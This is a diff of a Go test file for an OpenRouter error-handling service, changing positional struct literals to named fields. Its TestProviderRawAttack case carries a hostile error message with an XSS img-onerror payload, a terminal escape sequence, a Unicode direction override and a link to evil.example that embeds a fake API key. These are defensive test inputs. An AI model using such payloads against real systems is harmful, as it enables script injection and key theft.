@@ -63,7 +63,7 @@ func providerCases() []providerCase {
 			reasonProviderError, "unknown", "", "", []string{"Provider Crucible returned an error", "cause unknown"}},
 		{"unknown: 400 with malformed raw", openrouter.ProviderReturned(400, "Crucible", `{"error":{"type":"invalid_request_error","message":"cut`, false, openrouter.RawString),
 			reasonProviderError, "unknown", "", "", []string{"cause unknown"}},
-		{"unknown: 404", openrouter.ProviderReturned(404, "DeepInfra", openrouter.Members{{"detail", "Not Found"}}, false, openrouter.RawObject),
+		{"unknown: 404", openrouter.ProviderReturned(404, "DeepInfra", openrouter.Members{{Name: "detail", Value: "Not Found"}}, false, openrouter.RawObject),
 			reasonProviderError, "unknown", "", "", []string{`Provider DeepInfra returned an error (its status 404): "Not Found"`, "cause unknown"}},
 		{"unknown: 403 of OpenRouter's own provider key", openrouter.ProviderReturned(403, "OpenAI", openrouter.RawKeyPermission(), false, openrouter.RawString),
 			reasonProviderError, "unknown", "", "", []string{"cause unknown"}},
@@ -233,8 +233,8 @@ func TestProviderRawAttack(t *testing.T) {
 	logs := newHandler(t, &h, api)
 	orKey := openrouter.KeyPrefix + strings.Repeat("9c", 32)
 	byokKey := "sk-ant-api03-" + strings.Repeat("Zx7", 20)
-	raw := openrouter.Members{{"error", openrouter.Members{{"type", "invalid_request_error"}, {"message",
-		"Bad key " + byokKey + " for " + orKey + "\x1b]0;pwn\x07 <img src=x onerror=alert(1)> [click](https://evil.example/" + orKey + ") \u202edesrever"}}}}
+	raw := openrouter.Members{{Name: "error", Value: openrouter.Members{{Name: "type", Value: "invalid_request_error"}, {Name: "message",
+		Value: "Bad key " + byokKey + " for " + orKey + "\x1b]0;pwn\x07 <img src=x onerror=alert(1)> [click](https://evil.example/" + orKey + ") \u202edesrever"}}}}
 	fb := openrouter.ProviderReturned(400, "Evil<b>"+orKey, raw, true, openrouter.RawString)
 	rec := serve(t, &h, failureAnswer(fb, openrouter.EnvelopeOpenAI, nil), "POST", "/api/v1/chat/completions", goodKey)
 	msg, _ := errorOf(t, rec.Body.Bytes())["message"].(string)
